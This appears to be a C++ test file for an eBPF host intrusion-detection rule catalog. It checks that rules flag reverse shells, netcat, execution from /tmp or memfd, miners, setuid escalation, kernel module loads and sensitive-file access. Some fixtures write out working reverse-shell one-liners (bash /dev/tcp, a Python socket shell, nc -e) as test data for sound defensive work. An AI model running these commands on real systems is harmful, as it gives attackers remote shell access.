// Golden cases for the host rule catalog: each built-in rule fires on the
// event it describes and stays quiet on a benign neighbour; plus the
// contract between the JSON a person sees and the fields rules match on.
#include "ebpf/host_rules.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <set>

#include "ebpf/host_context_resolver.h"
#include "ebpf/host_event_fields.h"
#include "ebpf/host_runtime_source.h"
#include "rules/json_field_extractor.h"
#include "rules/rule_yaml_loader.h"
#include "testing/test_util.h"

namespace warden {
namespace {

// A host with init -> sshd -> bash, and whatever the test adds.
class HostRulesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    for (HostEvent e :
         {Exec(1, 0, "/sbin/init", {"/sbin/init"}), Exec(500, 1, "/usr/sbin/sshd", {"sshd", "-D"}),
          Exec(600, 500, "/usr/bin/bash", {"-bash"})})
      table_.Apply(e);
    auto engine = HostRuleEngine::Create({});
    ASSERT_TRUE(engine.ok()) << engine.status().message();
    engine_ = std::move(*engine);
  }

  static HostEvent Exec(int64_t pid, int64_t ppid, const std::string& exe,
                        std::vector<std::string> argv) {
    HostEvent e;
    e.kind = HostEventKind::kExec;
    e.time_ns = 1'700'000'000'000'000'000;
    e.pid = e.tid = pid;
    e.ppid = ppid;
    e.uid = e.gid = e.euid = e.egid = 0;
    e.exe = exe;
    e.exec_path = exe;
    e.argv = std::move(argv);
    e.syscall = "execve";
    e.stdio = {StdioKind::kCharDevice, StdioKind::kCharDevice, StdioKind::kCharDevice};
    return e;
  }
  static HostEvent Socket(HostEventKind kind, int64_t pid, std::string local, int local_port,
                          const std::string& remote, int remote_port) {
    HostEvent e;
    e.kind = kind;
    e.time_ns = 1'700'000'000'000'000'000;
    e.pid = pid;
    e.ppid = 600;
    e.uid = e.euid = 0;
    e.syscall = std::string(HostEventKindName(kind));
    e.socket_type = 1;
    e.protocol = 6;
    e.local = {2, std::move(local), local_port};
    if (!remote.empty()) e.remote = {2, remote, remote_port};
    return e;
  }
  static HostEvent Open(int64_t pid, std::string path, int64_t flags) {
    HostEvent e;
    e.kind = HostEventKind::kOpen;
    e.pid = pid;
    e.ppid = 600;
    e.uid = e.euid = 0;
    e.syscall = "openat";
    e.path = std::move(path);
    e.open_flags = flags;
    return e;
  }

  // The ids of the rules that fire on e (after the table has seen it).
  std::set<std::string> Fire(HostEvent e, HostRuleEngine* engine = nullptr) {
    int64_t prev_uid = -1, prev_euid = -1;
    table_.Apply(e, &prev_uid, &prev_euid);
    EventView view = MakeEventView(e, table_, "host-a", prev_uid, prev_euid);
    std::vector<Finding> findings;
    (engine != nullptr ? engine : engine_.get())->Evaluate(view, {}, &findings);
    std::set<std::string> ids;
    for (const Finding& f : findings) ids.insert(f.rule_id);
    last_ = findings;
    return ids;
  }

  ProcessTable table_;
  std::unique_ptr<HostRuleEngine> engine_;
  std::vector<Finding> last_;
};

using Ids = std::set<std::string>;

TEST_F(HostRulesTest, ShellWithASocketOnStdinIsAReverseShell) {
  HostEvent sh = Exec(700, 600, "/usr/bin/dash", {"/bin/sh", "-i"});
  sh.exec_path = "/bin/sh";
  sh.stdio = {StdioKind::kInetSocket, StdioKind::kInetSocket, StdioKind::kInetSocket};
  sh.stdio_peer = {2, "203.0.113.5", 4444};
  EXPECT_EQ(Fire(sh), Ids{"HOST-REVERSE-SHELL"});
  ASSERT_EQ(last_.size(), 1u);
  EXPECT_EQ(last_[0].risk_level, RiskLevel::kExtreme);
  EXPECT_EQ(last_[0].source, "host.ebpf");
  EXPECT_EQ(last_[0].attributes["mitre_techniques"][0], "T1059.004");
  EXPECT_EQ(last_[0].evidence["stdio_peer"]["address"], "203.0.113.5");
  // The same shell on a terminal is not.
  HostEvent normal = Exec(701, 600, "/usr/bin/dash", {"/bin/sh"});
  normal.exec_path = "/bin/sh";
  EXPECT_EQ(Fire(normal), Ids{});
}

TEST_F(HostRulesTest, ShellStartedByAProcessWhoseStdioIsASocketIsAReverseShell) {
  HostEvent sh = Exec(702, 600, "/usr/bin/bash", {"bash"});
  sh.stdio = {StdioKind::kCharDevice, StdioKind::kCharDevice, StdioKind::kCharDevice};  // a pty
  sh.parent_stdio = {StdioKind::kInetSocket, StdioKind::kInetSocket, StdioKind::kInetSocket};
  EXPECT_EQ(Fire(sh), Ids{"HOST-REVERSE-SHELL"});
}

TEST_F(HostRulesTest, ReverseShellCommandLines) {
  EXPECT_EQ(Fire(Exec(710, 600, "/usr/bin/bash",
                      {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"})),
            Ids{"HOST-REVERSE-SHELL-CMDLINE"});
  EXPECT_EQ(
      Fire(Exec(711, 600, "/usr/bin/python3",
                {"python3", "-c",
                 "import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",9001));"
                 "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"})),
      Ids{"HOST-REVERSE-SHELL-CMDLINE"});
  EXPECT_EQ(
      Fire(Exec(712, 600, "/usr/bin/bash", {"bash", "-c", "echo /dev/tcp is a bash feature"})),
      Ids{});
}

TEST_F(HostRulesTest, NetcatIsANetworkToolAndNetcatWithExecIsAReverseShell) {
  HostEvent nc = Exec(720, 600, "/usr/bin/nc.openbsd", {"nc", "-zv", "10.0.0.1", "22"});
  nc.exec_path = "/usr/bin/nc";
  EXPECT_EQ(Fire(nc), Ids{"HOST-NETWORK-TOOL"});
  HostEvent nce =
      Exec(721, 600, "/usr/bin/nc.traditional", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"});
  nce.exec_path = "/usr/bin/nc";
  EXPECT_EQ(Fire(nce), (Ids{"HOST-NETWORK-TOOL", "HOST-REVERSE-SHELL-CMDLINE"}));
  EXPECT_EQ(Fire(Exec(722, 600, "/usr/bin/ncdu", {"ncdu"})), Ids{});
}

TEST_F(HostRulesTest, ExecutionFromTmpDevShmAndMemfd) {
  EXPECT_EQ(Fire(Exec(730, 600, "/tmp/x", {"./x"})), Ids{"HOST-EXEC-FROM-TMP"});
  EXPECT_EQ(Fire(Exec(731, 600, "/dev/shm/.k/kworker", {"[kworker/0:1]"})),
            Ids{"HOST-EXEC-FROM-TMP"});
  HostEvent script = Exec(732, 600, "/usr/bin/dash", {"sh", "/var/tmp/run.sh"});
  script.exec_path = "/var/tmp/run.sh";  // a script: the interpreter is the exe
  EXPECT_EQ(Fire(script), Ids{"HOST-EXEC-FROM-TMP"});
  HostEvent memfd = Exec(733, 600, "/memfd:payload", {"payload"});
  memfd.exec_path = "/dev/fd/3";
  memfd.exe_deleted = true;
  EXPECT_EQ(Fire(memfd), Ids{"HOST-EXEC-MEMFD"});
  HostEvent runc = Exec(734, 600, "/memfd:runc_cloned:/proc/self/exe", {"runc", "init"});
  runc.exe_deleted = true;
  EXPECT_EQ(Fire(runc), Ids{});
  EXPECT_EQ(Fire(Exec(735, 600, "/usr/bin/tmpreaper", {"tmpreaper"})), Ids{});
}

TEST_F(HostRulesTest, OneProblemPerProgramWithTheProgramAsItsSubject) {
  // The README's own commands from a checkout under /tmp: many command
  // lines, one program.
  ASSERT_EQ(Fire(Exec(740, 600, "/tmp/src/build/warden", {"build/warden", "agent", "status"})),
            Ids{"HOST-EXEC-FROM-TMP"});
  const Finding first = last_[0];
  ASSERT_EQ(Fire(Exec(741, 600, "/tmp/src/build/warden", {"build/warden", "query", "SELECT 1"})),
            Ids{"HOST-EXEC-FROM-TMP"});
  EXPECT_EQ(last_[0].id, first.id);
  EXPECT_EQ(first.resource, "/tmp/src/build/warden");
  EXPECT_EQ(last_[0].attributes["cmdline"], "build/warden query SELECT 1");
  ASSERT_EQ(Fire(Exec(742, 600, "/tmp/other", {"/tmp/other"})), Ids{"HOST-EXEC-FROM-TMP"});
  EXPECT_NE(last_[0].id, first.id);
  EXPECT_EQ(last_[0].resource, "/tmp/other");
  // A script: the script is the program, not its interpreter.
  HostEvent script = Exec(743, 600, "/usr/bin/dash", {"sh", "/var/tmp/run.sh"});
  script.exec_path = "/var/tmp/run.sh";
  ASSERT_EQ(Fire(script), Ids{"HOST-EXEC-FROM-TMP"});
  EXPECT_EQ(last_[0].resource, "/var/tmp/run.sh");
  // Files are subjects with the program that opened them.
  ASSERT_FALSE(Fire(Open(600, "/etc/shadow", 1)).empty());
  EXPECT_EQ(last_[0].resource.rfind("/etc/shadow (", 0), 0u) << last_[0].resource;
}

TEST_F(HostRulesTest, ListenerOutsideTheAllowedPortsFires) {
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 31337, "", 0)),
            Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 443, "", 0)), Ids{});
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 31337, "", 0)),
            Ids{});  // loopback only
  HostEvent failed = Socket(HostEventKind::kListen, 600, "0.0.0.0", 31337, "", 0);
  failed.result = -98;
  EXPECT_EQ(Fire(failed), Ids{});
}

TEST_F(HostRulesTest, ARuleFileReplacesTheBuiltinRuleWithTheSameId) {
  testing::TempDir dir;
  std::string path = dir.WriteFile("ports.yaml", R"(
- id: HOST-LISTEN-UNEXPECTED-PORT
  title: Listener outside our ports
  risk_level: high
  match:
    event: listen
    socket.local_port: {not_in: [22, 31337]}
)");
  auto engine = HostRuleEngine::Create({path});
  ASSERT_TRUE(engine.ok()) << engine.status().message();
  EXPECT_EQ((*engine)->rule_count(), engine_->rule_count());
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 31337, "", 0), engine->get()),
            Ids{});
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 443, "", 0), engine->get()),
            Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
  EXPECT_EQ(last_[0].risk_level, RiskLevel::kHigh);
}

TEST_F(HostRulesTest, TheAgentsOpenPortsSettingsDriveTheListenerRule) {
  OpenPortsSettings ports;
  ports.allowed_tcp = {PortRange{22, 22}, PortRange{8000, 8100}};
  auto engine =
      HostRuleEngine::Create({}, true, ListenRuleForAllowedPorts(ports, RiskLevel::kHigh));
  ASSERT_TRUE(engine.ok()) << engine.status().message();
  EXPECT_EQ((*engine)->rule_count(), engine_->rule_count()) << "replaces the built-in rule";
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 22, "", 0), engine->get()), Ids{});
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 8050, "", 0), engine->get()),
            Ids{});
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 8101, "", 0), engine->get()),
            Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
  EXPECT_EQ(last_[0].risk_level, RiskLevel::kHigh);
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 443, "", 0), engine->get()),
            Ids{"HOST-LISTEN-UNEXPECTED-PORT"})
      << "443 is allowed by the catalog's default list, not by these settings";
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 9999, "", 0), engine->get()),
            Ids{});

  ports.report_loopback = true;
  ports.allowed_tcp.clear();
  auto strict =
      HostRuleEngine::Create({}, true, ListenRuleForAllowedPorts(ports, RiskLevel::kMedium));
  ASSERT_TRUE(strict.ok()) << strict.status().message();
  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 22, "", 0), strict->get()),
            Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
}

TEST_F(HostRulesTest, CryptoMiners) {
  EXPECT_EQ(Fire(Socket(HostEventKind::kConnect, 600, "10.0.0.5", 40000, "198.51.100.7", 3333)),
            Ids{"HOST-MINER-POOL-CONNECTION"});
  EXPECT_EQ(Fire(Socket(HostEventKind::kConnect, 600, "10.0.0.5", 40000, "198.51.100.7", 443)),
            Ids{});
  EXPECT_EQ(Fire(Exec(740, 600, "/opt/x/XMRig", {"XMRig"})), Ids{"HOST-CRYPTO-MINER"});
  EXPECT_EQ(
      Fire(Exec(741, 600, "/usr/bin/java", {"java", "-o", "stratum+tcp://pool.example:4444"})),
      Ids{"HOST-CRYPTO-MINER"});
}

TEST_F(HostRulesTest, SetuidToRootByANonRootProcess) {
  HostEvent py = Exec(750, 600, "/usr/bin/python3.11", {"python3"});
  py.uid = py.euid = 65534;
  table_.Apply(py);
  HostEvent s;
  s.kind = HostEventKind::kSetId;
  s.pid = 750;
  s.ppid = 600;
  s.syscall = "setuid";
  s.result = 0;
  s.uid = s.euid = 0;
  s.setid_args = {0, -1, -1};
  EXPECT_EQ(Fire(s), Ids{"HOST-SETUID-ROOT"});
  // sudo was already effective root (setuid binary): by design.
  HostEvent sudo = Exec(751, 600, "/usr/bin/sudo", {"sudo", "id"});
  sudo.uid = 1000;
  sudo.euid = 0;
  table_.Apply(sudo);
  s.pid = 751;
  EXPECT_EQ(Fire(s), Ids{});
}

TEST_F(HostRulesTest, SensitiveFiles) {
  HostEvent cat = Exec(760, 600, "/usr/bin/cat", {"cat", "/etc/shadow"});
  table_.Apply(cat);
  EXPECT_EQ(Fire(Open(760, "/etc/shadow", 0)), Ids{"HOST-SHADOW-READ"});
  HostEvent passwd = Exec(761, 600, "/usr/bin/passwd", {"passwd"});
  table_.Apply(passwd);
  EXPECT_EQ(Fire(Open(761, "/etc/shadow", 02)), Ids{});
  EXPECT_EQ(Fire(Open(760, "/etc/sudoers.d/90-x", 01 | 0100)), Ids{"HOST-SUDOERS-ACCESS"});
  EXPECT_EQ(Fire(Open(760, "/etc/ld.so.preload", 01)), Ids{"HOST-LD-PRELOAD-WRITE"});
  EXPECT_EQ(Fire(Open(760, "/etc/ld.so.preload", 0)), Ids{});
  EXPECT_EQ(Fire(Open(760, "/root/.ssh/authorized_keys", 02 | 02000)),
            Ids{"HOST-ROOT-SSH-KEYS-WRITE"});
}

TEST_F(HostRulesTest, KernelModuleLoads) {
  HostEvent m;
  m.kind = HostEventKind::kModuleLoad;
  m.pid = 600;
  m.syscall = "finit_module";
  m.path = "/lib/modules/6.1/extra/rootkit.ko";
  EXPECT_EQ(Fire(m), Ids{"HOST-KERNEL-MODULE-LOAD"});
  m.result = -1;
  EXPECT_EQ(Fire(m), Ids{});
}

TEST_F(HostRulesTest, ForksAndExitsVisitNoRule) {
  EXPECT_FALSE(engine_->Watches(HostEventKind::kFork));
  EXPECT_FALSE(engine_->Watches(HostEventKind::kExit));
  EXPECT_TRUE(engine_->Watches(HostEventKind::kExec));
}

TEST(HostRuleLoadTest, UnknownFieldsAndEventsAreErrorsWithSuggestions) {
  auto bad_field = HostRuleEngine::FromText(
      "- id: X\n  title: x\n  risk_level: low\n  match:\n    event: exec\n    proces.name: nc\n");
  ASSERT_FALSE(bad_field.ok());
  EXPECT_NE(bad_field.status().message().find("did you mean 'process.name'"), std::string::npos)
      << bad_field.status().message();
  auto bad_event = HostRuleEngine::FromText(
      "- id: X\n  title: x\n  risk_level: low\n  match:\n    event: exeve\n");
  ASSERT_FALSE(bad_event.ok());
  EXPECT_NE(bad_event.status().message().find("unknown event 'exeve'"), std::string::npos);
  auto threshold = HostRuleEngine::FromText(
      "- id: X\n  title: x\n  risk_level: low\n  match: {event: exec}\n  threshold: {count: 3, "
      "window: 1m}\n");
  ASSERT_FALSE(threshold.ok());
  EXPECT_NE(threshold.status().message().find("threshold"), std::string::npos);
}

TEST(HostRuleLoadTest, EveryBuiltinRuleHasATechniqueARiskAndARemediation) {
  auto engine = HostRuleEngine::Create({});
  ASSERT_TRUE(engine.ok());
  EXPECT_GE((*engine)->rule_count(), 12u);
  for (const Rule& r : (*engine)->rules()) {
    bool technique = false;
    for (const std::string& t : r.tags) technique = technique || !MitreTechniqueFromTag(t).empty();
    EXPECT_TRUE(technique) << r.id;
    EXPECT_FALSE(r.remediation.empty()) << r.id;
    EXPECT_FALSE(r.description.empty()) << r.id;
  }
}

// Rules read fields through HostEventFieldExtractor; people and evidence see
// RenderHostEventJson. Both must give the same values for every field.
TEST(HostEventFieldsTest, JsonAndDirectExtractionAgreeOnEveryField) {
  ProcessTable table;
  HostEvent parent;
  parent.kind = HostEventKind::kExec;
  parent.pid = 10;
  parent.ppid = 1;
  parent.uid = parent.euid = 0;
  parent.exe = "/usr/bin/python3.11";
  parent.exec_path = "/usr/bin/python3";
  parent.argv = {"python3", "-c", "x"};
  table.Apply(parent);
  std::vector<HostEvent> events;
  HostEvent exec = parent;
  exec.pid = 11;
  exec.ppid = 10;
  exec.exe = "/usr/bin/dash";
  exec.exec_path = "/bin/sh";
  exec.argv = {"sh", "-i", "quote\"and\\slash", "tab\tnewline\n"};
  exec.cwd = "/root";
  exec.cgroup_id = 1234;
  exec.stdio = {StdioKind::kInetSocket, StdioKind::kPipe, StdioKind::kUnknown};
  exec.stdio_peer = {2, "10.1.2.3", 9001};
  exec.exe_deleted = true;
  events.push_back(exec);
  HostEvent conn = exec;
  conn.kind = HostEventKind::kConnect;
  conn.syscall = "connect";
  conn.result = -115;
  conn.local = {10, "::1", 40000};
  conn.remote = {10, "2001:db8::1", 443};
  conn.fd = 5;
  conn.socket_type = 1;
  conn.protocol = 6;
  events.push_back(conn);
  HostEvent setid = exec;
  setid.kind = HostEventKind::kSetId;
  setid.syscall = "setresuid";
  setid.setid_args = {0, 0, -1};
  setid.suid = 0;
  events.push_back(setid);
  HostEvent open = exec;
  open.kind = HostEventKind::kOpen;
  open.path = "/etc/shadow";
  open.open_flags = 0;
  events.push_back(open);
  HostEvent exit = exec;
  exit.kind = HostEventKind::kExit;
  exit.exit_status = (3 << 8) | 0;
  exit.duration_ns = 5'000'000;
  events.push_back(exit);

  FieldRegistry registry;
  for (const HostEventField& f : HostEventFieldCatalog()) registry.Intern(f.path);
  HostEventFieldExtractor direct(registry);
  EXPECT_TRUE(direct.unknown_paths().empty());
  JsonFieldExtractor from_json(registry);
  for (HostEvent& e : events) {
    table.Apply(e);
    EventView view = MakeEventView(e, table, "host-a", 1000, 1000);
    view.user = "root";
    view.cgroup =
        "/system.slice/"
        "docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope";
    view.container_id = HostContextResolver::ContainerIdOf(view.cgroup);
    std::string json;
    RenderHostEventJson(view, &json);
    EXPECT_TRUE(nlohmann::json::accept(json)) << json;
    EventFields a, b;
    direct.Extract(view, &a);
    std::string padded = json + std::string(kJsonPadding, ' ');
    ASSERT_TRUE(from_json.Extract(padded.data(), json.size(), padded.size(), &b).ok()) << json;
    for (FieldId id = 0; id < registry.size(); ++id) {
      std::vector<std::string> va, vb;
      a.AnyValue(id, [&](const FieldValue& v) {
        va.emplace_back(v.text);
        return false;
      });
      b.AnyValue(id, [&](const FieldValue& v) {
        vb.emplace_back(v.text);
        return false;
      });
      EXPECT_EQ(va, vb) << HostEventKindName(e.kind) << " " << registry.path(id) << "\n" << json;
      EXPECT_EQ(a.count(id), b.count(id)) << registry.path(id);
    }
  }
}

TEST(HostContextResolverTest, ContainerIdsComeFromTheCgroupPath) {
  const std::string id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
  EXPECT_EQ(HostContextResolver::ContainerIdOf("/system.slice/docker-" + id + ".scope"), id);
  EXPECT_EQ(HostContextResolver::ContainerIdOf("/kubepods/burstable/pod1234/" + id), id);
  EXPECT_EQ(HostContextResolver::ContainerIdOf("/system.slice/ssh.service"), "");
  EXPECT_EQ(HostContextResolver::ContainerIdOf("/x/" + id + "0"), "");  // 65 digits is not an id
}

TEST(HostContextResolverTest, CgroupIdsAreTheInodesOfTheirDirectories) {
  testing::TempDir root;
  std::filesystem::create_directories(root.path() + "/system.slice/app.service");
  struct stat st {};
  ASSERT_EQ(stat((root.path() + "/system.slice/app.service").c_str(), &st), 0);
  HostContextResolver r(root.path(), "/nonexistent");
  EXPECT_EQ(r.CgroupPath(st.st_ino), "/system.slice/app.service");
  EXPECT_EQ(r.UserName(0), "");
  HostContextResolver live;
  EXPECT_EQ(live.UserName(0), "root");
}

}  // namespace
}  // namespace warden
